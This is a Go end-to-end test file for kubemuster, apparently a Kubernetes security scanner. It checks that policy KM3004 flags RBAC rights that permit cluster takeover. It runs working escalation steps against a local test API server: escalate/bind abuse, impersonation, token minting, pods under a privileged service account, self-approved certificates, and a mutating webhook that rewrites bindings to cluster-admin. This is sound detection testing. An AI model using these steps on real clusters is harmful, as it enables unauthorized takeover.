package e2e

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/open-policy-agent/opa/v1/rego"
	admissionv1 "k8s.io/api/admission/v1"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/kubemuster/kubemuster/internal/finding"
	"github.com/kubemuster/kubemuster/internal/policy"
	"github.com/kubemuster/kubemuster/internal/snapshot"
	"github.com/kubemuster/kubemuster/test/e2e/cluster"
)

// aggregator is the service account of kube-controller-manager's that may escalate.
const aggregator = "clusterrole-aggregation-controller"

// everything is what cluster-admin may.
var everything = []rbacv1.PolicyRule{{Verbs: []string{"*"}, APIGroups: []string{"*"}, Resources: []string{"*"}}}

// attacker is a service account that holds one cluster role, and nothing else.
type attacker struct {
	*testing.T
	name    string // of the service account, its role and its binding
	server  *cluster.Cluster
	config  *rest.Config
	client  kubernetes.Interface
	admin   kubernetes.Interface
	account rbacv1.Subject
}

// escalations are what the pack calls a way to take the cluster, by its name there: what the attacker holds, and how it gets
// the rest. Where no controller, kubelet or signer runs, the test does what it would do, and only what the attacker has asked for.
var escalations = map[string]struct {
	rules []rbacv1.PolicyRule
	take  func(attacker)
}{
	"everything": {everything, func(attacker) {}},
	"escalate": {
		[]rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterroles", "get", "update", "escalate")},
		func(a attacker) { a.raise(a.client) },
	},
	"bind": {
		[]rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterroles", "bind"), on(rbacv1.GroupName, "clusterrolebindings", "create")},
		func(a attacker) {
			_, err := a.client.RbacV1().ClusterRoleBindings().Create(a.Context(), &rbacv1.ClusterRoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: a.name + "-more"}, RoleRef: toClusterAdmin, Subjects: []rbacv1.Subject{a.account},
			}, metav1.CreateOptions{})
			a.check(err)
		},
	},
	"bind in kube-system": {
		[]rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterroles", "bind"), on(rbacv1.GroupName, "rolebindings", "create")},
		func(a attacker) {
			_, err := a.client.RbacV1().RoleBindings("kube-system").Create(a.Context(), &rbacv1.RoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: a.name}, RoleRef: toClusterAdmin, Subjects: []rbacv1.Subject{a.account},
			}, metav1.CreateOptions{})
			a.check(err)
			a.await(action{Verb: "create", Namespace: "kube-system", Resource: "serviceaccounts", Subresource: "token"})
			a.raise(a.issue(a.client, nil))
		},
	},
	"impersonate users": {
		[]rbacv1.PolicyRule{on("", "users", "impersonate")},
		func(a attacker) { a.raise(a.issue(a.as("system:kube-controller-manager"), nil)) },
	},
	"impersonate service accounts": {
		[]rbacv1.PolicyRule{on("", "serviceaccounts", "impersonate")},
		func(a attacker) { a.raise(a.as("system:serviceaccount:kube-system:" + aggregator)) },
	},
	"issue tokens": {
		[]rbacv1.PolicyRule{on("", "serviceaccounts/token", "create")},
		func(a attacker) { a.raise(a.issue(a.client, nil)) },
	},
	"create pods": {
		[]rbacv1.PolicyRule{on("", "pods", "create")},
		func(a attacker) {
			pod, err := a.client.CoreV1().Pods("kube-system").Create(a.Context(), &corev1.Pod{
				ObjectMeta: metav1.ObjectMeta{Name: a.name},
				Spec:       corev1.PodSpec{ServiceAccountName: aggregator, Containers: []corev1.Container{{Name: "mine", Image: "registry.example/mine:1"}}},
			}, metav1.CreateOptions{})
			a.check(err)
			// The kubelet asks for the token that is then in the pod.
			a.raise(a.issue(a.admin, &authenticationv1.BoundObjectReference{APIVersion: "v1", Kind: "Pod", Name: pod.Name, UID: pod.UID}))
		},
	},
	"approve certificates": {
		[]rbacv1.PolicyRule{
			on("certificates.k8s.io", "certificatesigningrequests", "create", "get"), on("certificates.k8s.io", "certificatesigningrequests/approval", "update"),
			{Verbs: []string{"approve"}, APIGroups: []string{"certificates.k8s.io"}, Resources: []string{"signers"}, ResourceNames: []string{certificatesv1.KubeAPIServerClientSignerName}},
		},
		func(a attacker) { a.raise(a.issue(a.certified("system:kube-controller-manager"), nil)) },
	},
	"reach kubelets": {
		[]rbacv1.PolicyRule{on("", "nodes/proxy", "get")},
		func(a attacker) {
			// There is no kubelet: what answers is no longer the authorizer.
			err := a.client.CoreV1().RESTClient().Get().AbsPath("/api/v1/nodes/node-0/proxy/exec/kube-system/pod/container").Do(a.Context()).Error()
			if err == nil || apierrors.IsForbidden(err) {
				a.Errorf("the API server answers %v", err)
			}
		},
	},
	"change what is admitted": {
		[]rbacv1.PolicyRule{on("admissionregistration.k8s.io", "mutatingwebhookconfigurations", "create", "delete")},
		func(a attacker) { a.intercept() },
	},
}

var toClusterAdmin = rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"}

func on(group, resource string, verbs ...string) rbacv1.PolicyRule {
	return rbacv1.PolicyRule{Verbs: verbs, APIGroups: []string{group}, Resources: []string{resource}}
}

// Each way that the pack calls a takeover makes a service account cluster-admin on the real API server, and is what KM3004
// finds on a workload with that service account.
func TestTakeover(t *testing.T) {
	t.Parallel()
	c := cluster.Start(t, cluster.Options{CA: world.ca})
	admin := kubernetesClient(t, c)
	if _, err := admin.CoreV1().ServiceAccounts("kube-system").Create(t.Context(), &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: aggregator}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	attackers := map[string]attacker{}
	for name, e := range escalations {
		attackers[name] = newAttacker(t, c, admin, strings.ReplaceAll(name, " ", "-"), e.rules)
	}
	inv := inventory(t, c)
	for _, a := range attackers {
		inv.Workloads = append(inv.Workloads, snapshot.InventoryWorkload{Kind: "Deployment", Namespace: "default", Name: a.name, ServiceAccount: a.name, Token: true})
	}
	found := takeovers(t, inv)
	for _, name := range waysOfThePack(t) {
		e, ok := escalations[name]
		if !ok {
			t.Errorf("the pack's way %q is not shown by this test", name)
			continue
		}
		t.Run(name, func(t *testing.T) {
			a := attackers[name]
			a.T = t
			if want := "it can take the cluster (" + name + "): "; !strings.HasPrefix(found[a.name], want) {
				t.Errorf("KM3004 says %q", found[a.name])
			}
			e.take(a)
			if name != "reach kubelets" {
				a.await(action{Verb: "*", Group: "*", Resource: "*"})
			}
		})
	}
	if len(escalations) != len(waysOfThePack(t)) {
		t.Error("the test shows ways that are not in the pack")
	}
}

// What looks like a takeover and is none: the API server refuses it.
func TestTakeoverIsRefused(t *testing.T) {
	t.Parallel()
	c := cluster.Start(t, cluster.Options{CA: world.ca})
	admin := kubernetesClient(t, c)
	for name, tt := range map[string]struct {
		rules []rbacv1.PolicyRule
		take  func(attacker) error
	}{
		"writing-roles-without-escalate": {
			[]rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterroles", "get", "create", "update", "patch", "bind")},
			func(a attacker) error { return a.tryRaise(a.client) },
		},
		"writing-bindings-without-bind": {
			[]rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterrolebindings", "create", "update", "patch", "escalate")},
			func(a attacker) error {
				_, err := a.client.RbacV1().ClusterRoleBindings().Create(a.Context(), &rbacv1.ClusterRoleBinding{
					ObjectMeta: metav1.ObjectMeta{Name: a.name + "-more"}, RoleRef: toClusterAdmin, Subjects: []rbacv1.Subject{a.account},
				}, metav1.CreateOptions{})
				return err
			},
		},
		"impersonating-groups-alone": {
			[]rbacv1.PolicyRule{on("", "groups", "impersonate")},
			func(a attacker) error {
				config := rest.CopyConfig(a.config)
				config.Impersonate = rest.ImpersonationConfig{UserName: "someone", Groups: []string{"system:masters"}}
				_, err := clientFor(a.T, config).CoreV1().Nodes().List(a.Context(), metav1.ListOptions{})
				return err
			},
		},
		"approving-for-another-signer": {
			[]rbacv1.PolicyRule{
				on("certificates.k8s.io", "certificatesigningrequests", "create"), on("certificates.k8s.io", "certificatesigningrequests/approval", "update"),
				{Verbs: []string{"approve"}, APIGroups: []string{"certificates.k8s.io"}, Resources: []string{"signers"}, ResourceNames: []string{"shop.example/internal"}},
			},
			func(a attacker) error {
				request, err := a.request("system:kube-controller-manager")
				if err != nil {
					return err
				}
				return a.approve(request)
			},
		},
	} {
		t.Run(name, func(t *testing.T) {
			a := newAttacker(t, c, admin, name, tt.rules)
			if err := tt.take(a); !apierrors.IsForbidden(err) {
				t.Errorf("the API server answers %v", err)
			}
			inv := inventory(t, c)
			inv.Workloads = []snapshot.InventoryWorkload{{Kind: "Deployment", Namespace: "default", Name: a.name, ServiceAccount: a.name, Token: true}}
			if found := takeovers(t, inv); len(found) > 0 {
				t.Errorf("KM3004 says %v", found)
			}
		})
	}
}

func newAttacker(t *testing.T, c *cluster.Cluster, admin kubernetes.Interface, name string, rules []rbacv1.PolicyRule) attacker {
	t.Helper()
	a := attacker{T: t, name: name, server: c, admin: admin, account: rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Namespace: "default", Name: name}}
	meta, none := metav1.ObjectMeta{Name: name}, metav1.CreateOptions{}
	_, err := admin.CoreV1().ServiceAccounts("default").Create(t.Context(), &corev1.ServiceAccount{ObjectMeta: meta}, none)
	a.check(err)
	_, err = admin.RbacV1().ClusterRoles().Create(t.Context(), &rbacv1.ClusterRole{ObjectMeta: meta, Rules: rules}, none)
	a.check(err)
	_, err = admin.RbacV1().ClusterRoleBindings().Create(t.Context(), &rbacv1.ClusterRoleBinding{
		ObjectMeta: meta, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: name}, Subjects: []rbacv1.Subject{a.account},
	}, none)
	a.check(err)
	token, err := admin.CoreV1().ServiceAccounts("default").CreateToken(t.Context(), name, &authenticationv1.TokenRequest{}, none)
	a.check(err)
	a.config = a.with(token.Status.Token)
	a.client = clientFor(t, a.config)
	for _, r := range rules {
		asked := action{Verb: r.Verbs[0], Group: r.APIGroups[0], Name: append(slices.Clone(r.ResourceNames), "")[0]}
		asked.Resource, asked.Subresource, _ = strings.Cut(r.Resources[0], "/")
		a.await(asked)
	}
	return a
}

func (a attacker) check(err error) {
	a.Helper()
	if err != nil {
		a.Fatal(err)
	}
}

// with is the way to the server with another's token.
func (a attacker) with(token string) *rest.Config {
	return &rest.Config{Host: a.server.Admin.Host, BearerToken: token, TLSClientConfig: rest.TLSClientConfig{CAData: world.ca.PEM()}, QPS: -1}
}

// await asks until the attacker may make the request: the authorizer learns of new rights a moment later.
func (a attacker) await(r action) {
	a.Helper()
	ctx, cancel := context.WithTimeout(a.Context(), time.Minute)
	defer cancel()
	review := &authorizationv1.SelfSubjectAccessReview{Spec: authorizationv1.SelfSubjectAccessReviewSpec{ResourceAttributes: &authorizationv1.ResourceAttributes{
		Verb: r.Verb, Namespace: r.Namespace, Group: r.Group, Resource: r.Resource, Subresource: r.Subresource, Name: r.Name,
	}}}
	for {
		answer, err := a.client.AuthorizationV1().SelfSubjectAccessReviews().Create(ctx, review, metav1.CreateOptions{})
		if err != nil {
			a.Fatalf("%s may not do %+v: %v", a.name, r, err)
		}
		if answer.Status.Allowed {
			return
		}
	}
}

// as acts as another, by impersonation.
func (a attacker) as(user string) kubernetes.Interface {
	config := rest.CopyConfig(a.config)
	config.Impersonate.UserName = user
	return clientFor(a.T, config)
}

// issue gives a client with a token of the aggregator.
func (a attacker) issue(by kubernetes.Interface, bound *authenticationv1.BoundObjectReference) kubernetes.Interface {
	a.Helper()
	token, err := by.CoreV1().ServiceAccounts("kube-system").CreateToken(a.Context(), aggregator, &authenticationv1.TokenRequest{
		Spec: authenticationv1.TokenRequestSpec{BoundObjectRef: bound},
	}, metav1.CreateOptions{})
	a.check(err)
	return clientFor(a.T, a.with(token.Status.Token))
}

// raise gives the attacker's own role every right.
func (a attacker) raise(by kubernetes.Interface) {
	a.Helper()
	a.check(a.tryRaise(by))
}

func (a attacker) tryRaise(by kubernetes.Interface) error {
	role, err := by.RbacV1().ClusterRoles().Get(a.Context(), a.name, metav1.GetOptions{})
	if err != nil {
		return err
	}
	role.Rules = everything
	_, err = by.RbacV1().ClusterRoles().Update(a.Context(), role, metav1.UpdateOptions{})
	return err
}

// certified gives a client with a certificate of another, that the attacker has asked for and approved.
func (a attacker) certified(user string) kubernetes.Interface {
	a.Helper()
	request, err := a.request(user)
	a.check(err)
	a.check(a.approve(request))
	// The signer signs what is approved.
	if request, err = a.admin.CertificatesV1().CertificateSigningRequests().Get(a.Context(), a.name, metav1.GetOptions{}); err != nil || len(request.Status.Conditions) != 1 {
		a.Fatalf("the request is %+v: %v", request, err)
	}
	cert, key := world.ca.ClientCertificate(user)
	config := a.with("")
	config.CertData, config.KeyData = cert, key
	return clientFor(a.T, config)
}

// request asks for a certificate of another.
func (a attacker) request(user string) (*certificatesv1.CertificateSigningRequest, error) {
	a.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	a.check(err)
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: user}}, key)
	a.check(err)
	return a.client.CertificatesV1().CertificateSigningRequests().Create(a.Context(), &certificatesv1.CertificateSigningRequest{
		ObjectMeta: metav1.ObjectMeta{Name: a.name},
		Spec: certificatesv1.CertificateSigningRequestSpec{
			Request: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}), SignerName: certificatesv1.KubeAPIServerClientSignerName,
			Usages: []certificatesv1.KeyUsage{certificatesv1.UsageClientAuth},
		},
	}, metav1.CreateOptions{})
}

func (a attacker) approve(request *certificatesv1.CertificateSigningRequest) error {
	request.Status.Conditions = []certificatesv1.CertificateSigningRequestCondition{{Type: certificatesv1.CertificateApproved, Status: corev1.ConditionTrue, Reason: "Mine"}}
	_, err := a.client.CertificatesV1().CertificateSigningRequests().UpdateApproval(a.Context(), request.Name, request, metav1.UpdateOptions{})
	return err
}

// intercept rewrites a binding that the administrator makes, so that it makes the attacker cluster-admin.
func (a attacker) intercept() {
	a.Helper()
	patch, err := json.Marshal([]map[string]any{
		{"op": "replace", "path": "/roleRef/name", "value": "cluster-admin"}, {"op": "replace", "path": "/subjects", "value": []rbacv1.Subject{a.account}},
	})
	a.check(err)
	hook := world.ca.Serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var review admissionv1.AdmissionReview
		if err := json.NewDecoder(r.Body).Decode(&review); err != nil || review.Request == nil {
			http.Error(w, "no review", http.StatusBadRequest)
			return
		}
		kind := admissionv1.PatchTypeJSONPatch
		review.Response = &admissionv1.AdmissionResponse{UID: review.Request.UID, Allowed: true, Patch: patch, PatchType: &kind}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(review)
	}), "127.0.0.1")
	a.Cleanup(hook.Close)
	sideEffects, fail := admissionregistrationv1.SideEffectClassNone, admissionregistrationv1.Fail
	webhooks := a.client.AdmissionregistrationV1().MutatingWebhookConfigurations()
	_, err = webhooks.Create(a.Context(), &admissionregistrationv1.MutatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: a.name},
		Webhooks: []admissionregistrationv1.MutatingWebhook{{
			Name: "mine.shop.example", SideEffects: &sideEffects, FailurePolicy: &fail, AdmissionReviewVersions: []string{"v1"},
			ClientConfig:   admissionregistrationv1.WebhookClientConfig{URL: &hook.URL, CABundle: world.ca.PEM()},
			ObjectSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": a.name}}, // the other attackers' bindings are theirs
			Rules: []admissionregistrationv1.RuleWithOperations{{
				Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
				Rule:       admissionregistrationv1.Rule{APIGroups: []string{rbacv1.GroupName}, APIVersions: []string{"v1"}, Resources: []string{"clusterrolebindings"}},
			}},
		}},
	}, metav1.CreateOptions{})
	a.check(err)
	a.Cleanup(func() { _ = webhooks.Delete(context.WithoutCancel(a.Context()), a.name, metav1.DeleteOptions{}) })
	ctx, cancel := context.WithTimeout(a.Context(), time.Minute)
	defer cancel()
	for i := 0; ; i++ { // until the API server has learnt of the webhook
		b, err := a.admin.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
			ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprint("innocent-", i), Labels: map[string]string{"app": a.name}},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "view"},
			Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.UserKind, Name: "auditor"}},
		}, metav1.CreateOptions{})
		a.check(err)
		if b.RoleRef.Name == "cluster-admin" {
			return
		}
	}
}

// takeovers are KM3004's messages, by the workload's name.
func takeovers(t *testing.T, inv snapshot.Inventory) map[string]string {
	t.Helper()
	engine := ownEngine(t)
	found := map[string]string{}
	j := engine.Cluster(t.Context(), inv, policy.Cluster{Provider: "test", Version: cluster.Version}, func(c finding.Check) bool { return c.ID != "KM3004" })
	for _, f := range j.Findings {
		found[f.Object.Name] = f.Message
	}
	return found
}

// waysOfThePack are the names of what the pack calls a takeover.
func waysOfThePack(t *testing.T) []string {
	t.Helper()
	rs, err := rego.New(rego.Load([]string{"../../policies/lib/takeover.rego"}, nil), rego.Query("[way.name | some way in data.kubemuster.lib.takeover.ways]")).Eval(t.Context())
	if err != nil || len(rs) != 1 {
		t.Fatal(err)
	}
	var names []string
	for _, name := range rs[0].Expressions[0].Value.([]any) {
		names = append(names, name.(string))
	}
	return names
}
